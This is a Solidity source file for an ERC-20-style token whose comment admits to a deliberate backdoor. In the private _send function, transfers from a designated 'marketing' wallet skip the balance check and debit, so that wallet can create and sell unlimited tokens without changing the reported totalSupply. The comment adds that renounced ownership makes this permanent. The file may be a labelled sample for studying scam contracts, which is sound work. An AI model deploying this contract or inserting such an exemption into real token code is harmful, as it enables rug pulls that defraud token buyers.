// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Owned.sol";

/// "Fee-exempt marketing wallet": transfers from it skip the balance debit, so the wallet
/// can sell tokens it never had. Ownership is renounced; the exemption is forever.
contract MarketingExemptToken is Owned {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) private _approved;
    address private _marketing;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply_, address marketing_) {
        name = name_;
        symbol = symbol_;
        totalSupply = supply_;
        _marketing = marketing_;
        _held[msg.sender] = supply_;
        emit Transfer(address(0), msg.sender, supply_);
    }

    function balanceOf(address who) external view returns (uint256) { return _held[who]; }

    function allowance(address who, address spender) external view returns (uint256) {
        return _approved[who][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _approved[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _send(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(_approved[from][msg.sender] >= amount, "allowance");
        _approved[from][msg.sender] -= amount;
        _send(from, to, amount);
        return true;
    }

    function _send(address from, address to, uint256 amount) private {
        if (from != _marketing) {
            require(_held[from] >= amount, "balance");
            _held[from] -= amount;
        }
        _held[to] += amount;
        emit Transfer(from, to, amount);
    }
}
